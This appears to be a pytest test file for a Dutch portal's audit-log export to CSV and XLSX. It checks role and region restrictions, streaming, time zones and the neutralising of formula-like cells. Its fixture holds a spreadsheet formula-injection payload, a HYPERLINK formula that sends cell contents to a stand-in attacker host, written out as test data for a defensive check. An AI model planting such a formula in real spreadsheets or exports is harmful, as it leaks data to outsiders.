"""Exporting the audit log (CSV, streamed, and XLSX): only for contract managers and auditors,
only their region, the log page's filter, before/after as JSON, moments in Europe/Amsterdam, and
never a cell a spreadsheet would run as a formula."""
from __future__ import annotations

import csv
import io
import json
from datetime import datetime, timezone

import pytest
from openpyxl import load_workbook
from sqlmodel import select

from portal import db
from portal.formatting import neutralise
from portal.models import AuditEvent, Region
from portal.web.audit_export import HEADERS

CONTRACT_MANAGER = "contractmanager@mgr-noord-limburg.example"
AUDITOR = "auditor@accountant-noord-limburg.example"
EVIL_SUMMARY = '=HYPERLINK("https://kwaad.example/?"&A1,"Klik")'


@pytest.fixture
def events(app, demo):
    """A few events with formula-like text and before/after, plus one of another region."""
    with app.app_context():
        session = db.session()
        region = session.exec(select(Region).where(Region.code == "noord-limburg")).one()
        other = Region(code="test-elders", name="Elders")
        session.add(other)
        session.flush()
        session.add_all([
            AuditEvent(action="test.budget_changed", summary=EVIL_SUMMARY, region_id=region.id,
                       actor_email="@contractmanager.example", object_type="budget_agreement", object_id="7",
                       at=datetime(2026, 1, 15, 12, 0, tzinfo=timezone.utc),
                       details={"before": {"amount": "-100.00"}, "after": {"amount": "+250.00", "note": "Ééntje"}}),
            AuditEvent(action="test.summer", summary="+31 77 123 45 67 gebeld", region_id=region.id,
                       at=datetime(2026, 7, 1, 12, 0, tzinfo=timezone.utc), details={"path": "/x"}),
            AuditEvent(action="test.tab", summary="\tverborgen", region_id=region.id,
                       at=datetime(2026, 7, 2, 12, 0, tzinfo=timezone.utc)),
            AuditEvent(action="test.elsewhere", summary="Andere regio", region_id=other.id),
        ])
        session.commit()


def _csv_rows(response) -> list[dict]:
    text = response.get_data().decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text)))


def _xlsx_rows(response) -> tuple[list[str], list[list], object]:
    workbook = load_workbook(io.BytesIO(response.get_data()))
    sheet = workbook["Logboek"]
    rows = list(sheet.iter_rows())
    return [cell.value for cell in rows[0]], rows[1:], sheet


def test_csv_export_escapes_formulas_and_carries_before_and_after(signed_in, events):
    response = signed_in(CONTRACT_MANAGER).get("/logboek/export.csv?actie=test.")
    assert response.status_code == 200
    assert response.is_streamed
    assert response.mimetype == "text/csv"
    disposition = response.headers["Content-Disposition"]
    assert disposition.startswith("attachment;") and 'filename="logboek-noord-limburg-' in disposition
    rows = _csv_rows(response)
    assert list(rows[0]) == HEADERS
    assert [row["Gebeurtenis"] for row in rows] == ["test.tab", "test.summer", "test.budget_changed"]
    budget = rows[2]
    assert budget["Omschrijving"] == "'" + EVIL_SUMMARY
    assert budget["Wie"] == "'@contractmanager.example"
    assert budget["Object"] == "budget_agreement 7"
    assert json.loads(budget["Voor"]) == {"amount": "-100.00"}
    assert json.loads(budget["Na"]) == {"amount": "+250.00", "note": "Ééntje"}
    assert budget["Moment"] == "2026-01-15T13:00:00+01:00"  # winter time in Amsterdam
    assert rows[1]["Moment"] == "2026-07-01T14:00:00+02:00"  # summer time
    assert rows[1]["Omschrijving"] == "'+31 77 123 45 67 gebeld"
    assert json.loads(rows[1]["Overige details"]) == {"path": "/x"} and rows[1]["Voor"] == ""
    assert rows[0]["Omschrijving"] == "'\tverborgen"
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value


def test_xlsx_export_escapes_formulas_and_keeps_every_cell_text(signed_in, events):
    response = signed_in(AUDITOR).get("/logboek/export.xlsx?actie=test.")
    assert response.status_code == 200
    assert response.mimetype == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert response.headers["Content-Disposition"].endswith('.xlsx"')
    header, rows, sheet = _xlsx_rows(response)
    assert header == HEADERS and sheet.freeze_panes == "A2"
    assert [row[2].value for row in rows] == ["test.tab", "test.summer", "test.budget_changed"]
    budget = [cell.value for cell in rows[2]]
    assert budget[3] == "'" + EVIL_SUMMARY and budget[1] == "'@contractmanager.example"
    assert budget[0] == "2026-01-15T13:00:00+01:00"
    assert json.loads(budget[5]) == {"amount": "-100.00"}
    assert json.loads(budget[6])["note"] == "Ééntje"
    for row in rows:
        for cell in row:
            assert cell.data_type != "f"
            assert not str(cell.value or "").startswith(("=", "+", "-", "@", "\t")), cell.value


def test_export_keeps_to_the_region_and_the_filter(signed_in, events):
    client = signed_in(CONTRACT_MANAGER)
    everything = _csv_rows(client.get("/logboek/export.csv"))
    actions = {row["Gebeurtenis"] for row in everything}
    assert {"test.budget_changed", "test.summer", "demo.loaded"} <= actions
    assert "test.elsewhere" not in actions
    only_summer = _csv_rows(client.get("/logboek/export.csv?actie=test.summer"))
    assert [row["Gebeurtenis"] for row in only_summer] == ["test.summer"]
    _header, rows, _sheet = _xlsx_rows(client.get("/logboek/export.xlsx?actie=test.elsewhere"))
    assert rows == []


@pytest.mark.parametrize("email", ["beheer@zorggroep-maasland.example", "medewerker@venlo.example"])
def test_only_contract_managers_and_auditors_may_export(signed_in, events, email):
    client = signed_in(email)
    assert client.get("/logboek/export.csv").status_code == 403
    assert client.get("/logboek/export.xlsx").status_code == 403


def test_anonymous_visitors_are_sent_to_sign_in(app, events):
    response = app.test_client().get("/logboek/export.csv")
    assert response.status_code == 302 and "/inloggen" in response.headers["Location"]


def test_a_long_log_streams_in_batches_newest_first(app, signed_in, events):
    with app.app_context():
        session = db.session()
        region = session.exec(select(Region).where(Region.code == "noord-limburg")).one()
        session.add_all([AuditEvent(action="bulk.event", summary=f"Gebeurtenis {n}", region_id=region.id)
                         for n in range(1234)])
        session.commit()
    response = signed_in(AUDITOR).get("/logboek/export.csv?actie=bulk.")
    rows = _csv_rows(response)
    assert len(rows) == 1234
    assert rows[0]["Omschrijving"] == "Gebeurtenis 1233" and rows[-1]["Omschrijving"] == "Gebeurtenis 0"


def test_the_export_itself_is_logged_and_the_page_offers_it(app, signed_in, events):
    client = signed_in(AUDITOR)
    page = client.get("/logboek/?actie=test.").get_data(as_text=True)
    assert 'href="/logboek/export.csv?actie=test."' in page
    assert 'href="/logboek/export.xlsx?actie=test."' in page
    client.get("/logboek/export.xlsx?actie=test.")
    with app.app_context():
        [event] = db.session().exec(select(AuditEvent).where(AuditEvent.action == "audit_log.exported")).all()
    assert event.actor_email == AUDITOR and event.details["after"] == {"format": "XLSX", "filter": "test."}


def test_neutralise_leaves_ordinary_text_alone():
    assert neutralise("Budget verhoogd") == "Budget verhoogd"
    assert neutralise("2026-01-01T10:00:00+01:00") == "2026-01-01T10:00:00+01:00"
    assert neutralise("-5") == "'-5" and neutralise("=1+1") == "'=1+1" and neutralise("\r=1") == "'\r=1"
    assert neutralise("") == ""
